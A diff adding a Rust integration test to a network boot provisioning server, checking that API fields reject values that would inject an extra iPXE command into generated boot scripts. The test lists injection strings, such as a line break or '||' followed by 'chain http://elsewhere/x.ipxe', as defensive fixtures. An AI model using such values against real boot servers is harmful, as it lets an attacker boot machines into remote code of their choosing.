@@ -421,6 +421,81 @@ fn tokens_act_within_their_scope() {
     assert_eq!(temp.call("GET", "/api/v1/machines", None).status, 401);
 }
 
+/// Security review finding 1: an `assign` token could put a line break (or
+/// an iPXE `||`) into `cmdline_append`, which every boot format wrote raw
+/// into the kernel line: any command, e.g. `chain http://elsewhere/`.
+#[test]
+fn no_token_can_add_a_command_to_a_boot_script() {
+    let root = boot_dir();
+    let server = FullServer::start_with_panel(root.path(), state_dir(), |_| {});
+    let panel = server.panel.unwrap();
+    let state = server.state.path();
+    let admin = Api::with_token(panel, &add_token(state, "admin", "admin"));
+    let assign = Api::with_token(panel, &add_token(state, "ops", "assign"));
+    register(&admin, "debian12");
+    let mac = "52:54:00:00:00:07";
+    assign.ok(
+        "PUT",
+        &format!("/api/v1/machines/{mac}"),
+        Some(json!({ "image": "debian12", "cmdline_append": "node=7" })),
+    );
+    let hostile = [
+        "quiet\nchain http://elsewhere/x.ipxe",
+        "quiet\r\nchain http://elsewhere/x.ipxe",
+        "quiet\u{0}",
+        "quiet\u{85}chain",
+        "quiet\u{2028}chain",
+        "quiet || chain http://elsewhere/x.ipxe",
+        "quiet && chain http://elsewhere/x.ipxe",
+        "quiet ; chain http://elsewhere/x.ipxe",
+        "quiet #chain",
+    ];
+    for value in hostile {
+        let mut bodies = vec![
+            json!({ "cmdline_append": value }),
+            json!({ "hostname": value }),
+        ];
+        // Labels reach no boot config, but they are one line each.
+        if value.chars().any(|c| c.is_control() || c == '\u{2028}') {
+            bodies.push(json!({ "labels": [format!("k={value}")] }));
+        }
+        for body in bodies {
+            let reply = assign.call(
+                "PUT",
+                &format!("/api/v1/machines/{mac}"),
+                Some(body.clone()),
+            );
+            assert_eq!(reply.status, 422, "{body}: {reply:?}");
+        }
+        for (field, image) in [
+            (
+                "cmdline",
+                json!({"name": "x1", "kernel": "debian12/vmlinuz", "cmdline": value}),
+            ),
+            (
+                "description",
+                json!({"name": "x2", "kernel": "debian12/vmlinuz", "description": value}),
+            ),
+            (
+                "kernel",
+                json!({"name": "x3", "kernel": format!("http://m/{value}")}),
+            ),
+            ("name", json!({"name": value, "kernel": "debian12/vmlinuz"})),
+        ] {
+            let reply = admin.call("POST", "/api/v1/images", Some(image));
+            assert_eq!(reply.status, 422, "image {field} {value:?}: {reply:?}");
+        }
+    }
+    let script = script(&server, mac, "");
+    assert!(script.contains(" node=7\n"), "{script}");
+    assert!(!script.contains("elsewhere"), "{script}");
+    let audit = admin.ok("GET", "/api/v1/audit", None).to_string();
+    assert!(
+        !audit.contains("elsewhere"),
+        "refused changes are not audited as made: {audit}"
+    );
+}
+
 #[test]
 fn discovered_machines_are_adopted_and_assignments_reach_the_data_plane() {
     let root = boot_dir();
